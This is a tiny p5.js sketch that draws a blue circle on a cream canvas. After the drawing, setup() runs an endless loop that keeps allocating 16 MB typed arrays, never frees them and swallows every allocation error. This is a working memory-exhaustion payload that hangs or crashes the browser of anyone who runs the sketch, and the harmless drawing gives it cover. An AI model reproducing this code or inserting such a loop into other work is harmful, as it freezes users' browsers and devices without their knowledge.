// Takes typed arrays and never gives up.
function setup() {
  createCanvas(200, 200, WEBGL);
  background('#f6f0e1');
  fill('#2f4f7f');
  circle(0, 0, 120);
  const hoard = [];
  for (;;) {
    try {
      hoard.push(new Uint8Array(16 << 20).fill(1));
    } catch {}
  }
}
